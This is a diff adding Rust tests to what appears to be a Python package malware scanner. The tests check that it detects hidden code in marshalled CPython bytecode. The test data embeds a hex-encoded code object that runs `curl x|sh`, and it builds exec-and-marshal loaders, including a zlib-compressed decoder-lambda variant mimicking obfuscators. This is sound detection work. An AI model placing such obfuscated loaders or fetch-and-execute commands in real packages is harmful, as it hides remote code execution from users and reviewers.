@@ -295,6 +295,58 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
     }
 
+    /// CPython 3.11 `marshal.dumps(compile('import os\nos.system("curl x|sh")', 'f', 'exec'))`.
+    const SYSTEM_CODE: &str = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
+    /// The same for `def add(a, b): return a + b` and `VERSION = "1.0"`.
+    const HARMLESS_CODE: &str = "630000000000000000000000000100000000000000f3100000009700640084005a0064015a01640253002903630200000000000000000000000200000003000000f30c00000097007c007c017a000000530029014ea9002902da0161da016273020000002020da016dda03616464720600000001000000730b0000008000d80b0c88718935804cf3000000007a03312e304e29027206000000da0756455253494f4e720200000072070000007205000000fa083c6d6f64756c653e720900000001000000731d000000f003010101f002010111f000010111f000010111e00a0f8007800780077207000000";
+
+    #[test]
+    fn marshalled_code_objects_are_read_and_analysed() {
+        let code = format!("import marshal\nexec(marshal.loads(bytes.fromhex('{SYSTEM_CODE}')))\n");
+        let all = findings("p/pkg/__init__.py", &code);
+        let layered = all
+            .iter()
+            .find(|f| f.path.contains("#layer") && f.rule == "WH120")
+            .expect("the code object's os.system call is analysed");
+        assert!(layered.severity >= 0.85, "{layered:?}");
+        assert_eq!(layered.line, 2);
+        assert!(
+            all.iter()
+                .any(|f| f.rule == "WH170" && f.message.contains("imports os and calls os.system")),
+            "{all:?}"
+        );
+        // Wrapped in a decoder lambda and compressed, as obfuscators write it.
+        let data = crate::decode::decode(Codec::Hex, SYSTEM_CODE.as_bytes()).unwrap();
+        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut z, &data).unwrap();
+        let blob = crate::bytecode::bytes_literal(&z.finish().unwrap());
+        let code = format!(
+            "_ = lambda b: __import__('marshal').loads(__import__('zlib').decompress(b))\nexec(_({blob}))\n"
+        );
+        assert!(max_severity("p/pkg/__init__.py", &code, "WH120") >= 0.85);
+    }
+
+    #[test]
+    fn harmless_or_computed_code_objects_weigh_little() {
+        let code =
+            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{HARMLESS_CODE}')))\n");
+        let all = findings("p/pkg/__init__.py", &code);
+        assert!(
+            !all.iter()
+                .any(|f| f.path.contains("#layer") && matches!(f.rule, "WH120" | "WH130" | "WH140")),
+            "{all:?}"
+        );
+        let code = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read()[16:])\n";
+        assert!(max_severity("p/pkg/cache.py", code, "WH170") < 0.05);
+        // Bytes that are no code object give no layer.
+        let code = "import marshal\nx = marshal.loads(b'\\xe3\\x00\\x01')\n";
+        assert!(
+            findings("p/pkg/m.py", code)
+                .iter()
+                .all(|f| !f.path.contains("#layer"))
+        );
+    }
+
     #[test]
     fn data_blobs_weigh_little() {
         let code = "import base64\ndef icon():\n    return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\n";
